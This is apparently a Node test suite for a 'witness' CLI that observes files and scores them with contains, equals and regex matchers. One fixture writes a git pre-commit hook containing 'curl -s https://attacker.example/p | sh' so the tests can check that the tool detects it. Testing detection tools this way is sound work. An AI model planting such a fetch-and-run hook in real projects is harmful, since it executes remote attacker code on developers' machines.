import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, it } from 'node:test';
import { conditionMatcher } from '../../src/models/condition.js';
import { ObservationSchema } from '../../src/models/observation.js';
import { ScoreSchema } from '../../src/models/score.js';
import { runCli } from '../support/cli.js';
import { makeWorkspace } from '../support/workspace.js';

const HOOK_TEXT = '#!/bin/sh\ncurl -s https://attacker.example/p | sh\n';

function scoreOutput(stdout: string) {
  const parsed = JSON.parse(stdout) as { score: unknown; observation: unknown };
  assert.deepEqual(Object.keys(parsed), ['score', 'observation']);
  return { score: ScoreSchema.parse(parsed.score), observation: ObservationSchema.parse(parsed.observation) };
}

describe('witness score', () => {
  it('prints a true verdict as { score, observation } JSON and exits 0', async () => {
    const root = makeWorkspace({ '.git/hooks/pre-commit': HOOK_TEXT });
    const result = await runCli([
      'score',
      root,
      '/.git/hooks/pre-commit',
      '--contains',
      'ATTACKER.example',
      '--json',
    ]);
    assert.equal(result.status, 0, result.stderr);
    const { score, observation } = scoreOutput(result.stdout);
    assert.equal(score.value, true);
    assert.deepEqual(score.observationIds, [observation.id]);
    assert.equal(observation.payload.entries[0]?.content, HOOK_TEXT);
    assert.equal(result.stdout, `${JSON.stringify({ score, observation })}\n`);
  });

  it('honours --case-sensitive and --keep-whitespace', async () => {
    const root = makeWorkspace({ 'out.txt': '  Token  ' });
    const insensitive = await runCli(['score', root, '/out.txt', '--equals', 'token', '--json']);
    assert.equal(scoreOutput(insensitive.stdout).score.value, true);
    const sensitive = await runCli([
      'score',
      root,
      '/out.txt',
      '--equals',
      'token',
      '--case-sensitive',
      '--json',
    ]);
    assert.equal(scoreOutput(sensitive.stdout).score.value, false);
    const keep = await runCli([
      'score',
      root,
      '/out.txt',
      '--equals',
      'Token',
      '--keep-whitespace',
      '--json',
    ]);
    assert.equal(scoreOutput(keep.stdout).score.value, false);
  });

  it('prints a human-readable verdict with entries and gaps explained in words', async () => {
    const root = makeWorkspace({ 'out/a.sh': 'echo pwned', 'out/big.sh': 'x'.repeat(5000) });
    const result = await runCli([
      'score',
      root,
      '/out/*.sh',
      '--glob',
      '--equals',
      'nothing',
      '--max-read-bytes',
      '100',
    ]);
    assert.equal(result.status, 0, result.stderr);
    assert.match(result.stdout, /^Verdict: UNDETERMINED/);
    assert.match(result.stdout, /\/out\/a\.sh {2}10 bytes/);
    assert.match(
      result.stdout,
      /read_limit_exceeded at \/out\/big\.sh: the budget of bytes read \(maxReadBytes\) ran out/,
    );
    assert.equal(result.stderr, '');
  });

  it('exits 0 with a false verdict for an absent file', async () => {
    const root = makeWorkspace();
    const result = await runCli(['score', root, '/missing.txt', '--json']);
    assert.equal(result.status, 0);
    assert.equal(scoreOutput(result.stdout).score.value, false);
  });

  const usageCases: [string, string[], RegExp][] = [
    ['a locator with ..', ['/a/../b'], /\.\." segment/],
    ['the root itself', ['/'], /root itself/],
    [
      'a limit that is not a positive integer',
      ['/a', '--max-files', '0'],
      /--max-files takes a positive whole number/,
    ],
    ['an invalid regex', ['/a', '--regex', '(unclosed'], /regular expression/],
    ['two matchers at once', ['/a', '--contains', 'x', '--equals', 'y'], /cannot be used with/],
    ['a modifier without a matcher', ['/a', '--case-sensitive'], /add --contains, --equals or --regex/],
    ['an unknown flag', ['/a', '--frobnicate'], /unknown option/],
    ['a negated glob', ['!/a/*', '--glob'], /negat/],
  ];
  for (const [what, args, message] of usageCases) {
    it(`exits 2 with a message on stderr and nothing on stdout for ${what}`, async () => {
      const root = makeWorkspace();
      const result = await runCli(['score', root, ...args]);
      assert.equal(result.status, 2);
      assert.equal(result.stdout, '');
      assert.match(result.stderr, message);
    });
  }

  it('reports a missing root as an undetermined verdict, not an error', async () => {
    const root = path.join(makeWorkspace(), 'does-not-exist');
    const result = await runCli(['score', root, '/a.txt', '--json']);
    assert.equal(result.status, 0);
    const { score, observation } = scoreOutput(result.stdout);
    assert.equal(score.status, 'undetermined');
    assert.equal(observation.acquisition, 'unavailable');
    assert.deepEqual(observation.payload.coverage.reasons, ['surface_root_unavailable']);
  });
});

describe('witness observe', () => {
  it('prints the Observation JSON for a glob', async () => {
    const root = makeWorkspace({ 'out/a.sh': 'a', 'out/b.txt': 'b' });
    const result = await runCli(['observe', root, '/out/*.sh', '--glob']);
    assert.equal(result.status, 0, result.stderr);
    const observation = ObservationSchema.parse(JSON.parse(result.stdout));
    assert.deepEqual(
      observation.payload.entries.map((entry) => entry.uri),
      ['/out/a.sh'],
    );
    assert.equal(observation.acquisition, 'complete');
  });
});

describe('witness replay', () => {
  async function storedScore(
    files: Record<string, string>,
    uri: string,
    extra: string[] = [],
  ): Promise<string> {
    const root = makeWorkspace(files);
    const result = await runCli(['score', root, uri, '--json', ...extra]);
    assert.equal(result.status, 0, result.stderr);
    const file = path.join(makeWorkspace(), 'score.json');
    writeFileSync(file, result.stdout);
    return file;
  }

  it('re-judges a stored observation with a new matcher, keeping its id', async () => {
    const file = await storedScore({ 'out.txt': 'api_key=sk-12345' }, '/out.txt', ['--contains', 'nothing']);
    const { observation } = scoreOutput(await import('node:fs').then((fs) => fs.readFileSync(file, 'utf8')));
    const result = await runCli(['replay', file, '--regex', 'sk-\\d{5}', '--json']);
    assert.equal(result.status, 0, result.stderr);
    const { score } = JSON.parse(result.stdout) as { score: unknown };
    const parsed = ScoreSchema.parse(score);
    assert.equal(parsed.value, true);
    assert.deepEqual(parsed.observationIds, [observation.id]);
    assert.equal(conditionMatcher(parsed.scoredExpectation.conditions[0])?.matcherType, 'regex');
  });

  it("reuses the stored score's criterion when no matcher flag is given", async () => {
    const file = await storedScore({ 'out.txt': 'hello' }, '/out.txt', ['--contains', 'nothing']);
    const result = await runCli(['replay', file, '--json']);
    const parsed = ScoreSchema.parse((JSON.parse(result.stdout) as { score: unknown }).score);
    assert.equal(parsed.value, false);
    assert.equal(conditionMatcher(parsed.scoredExpectation.conditions[0])?.value, 'nothing');
  });

  it('accepts a bare Observation file', async () => {
    const root = makeWorkspace({ 'out.txt': 'hello' });
    const observed = await runCli(['observe', root, '/out.txt']);
    const file = path.join(makeWorkspace(), 'observation.json');
    writeFileSync(file, observed.stdout);
    const result = await runCli(['replay', file, '--equals', 'HELLO']);
    assert.equal(result.status, 0, result.stderr);
    assert.match(result.stdout, /^Verdict: TRUE/);
  });

  it('exits 2 for malformed JSON, unknown keys, broken invariants and a missing file', async () => {
    const root = makeWorkspace({ 'out.txt': 'hello' });
    const observation = JSON.parse((await runCli(['observe', root, '/out.txt'])).stdout) as Record<
      string,
      unknown
    >;
    const dir = makeWorkspace();
    const cases: [string, string, RegExp][] = [
      ['malformed.json', '{"id": ', /not valid JSON/],
      ['unknown-key.json', JSON.stringify({ ...observation, extra: 1 }), /extra|Unrecognized key/i],
      ['invariant.json', JSON.stringify({ ...observation, acquisition: 'partial' }), /acquisition/],
      [
        'version.json',
        JSON.stringify({
          ...observation,
          payload: { ...(observation.payload as object), schemaVersion: '1' },
        }),
        /schemaVersion/,
      ],
    ];
    for (const [name, text, message] of cases) {
      const file = path.join(dir, name);
      writeFileSync(file, text);
      const result = await runCli(['replay', file]);
      assert.equal(result.status, 2, name);
      assert.equal(result.stdout, '', name);
      assert.match(result.stderr, message, name);
    }
    const missing = await runCli(['replay', path.join(dir, 'absent.json')]);
    assert.equal(missing.status, 2);
    assert.match(missing.stderr, /cannot read/);
  });
});

describe('witness --help', () => {
  for (const command of ['observe', 'score', 'replay']) {
    it(`documents ${command} and exits 0`, async () => {
      const result = await runCli([command, '--help']);
      assert.equal(result.status, 0);
      assert.match(result.stdout, new RegExp(`Usage: witness ${command}`));
    });
  }
});
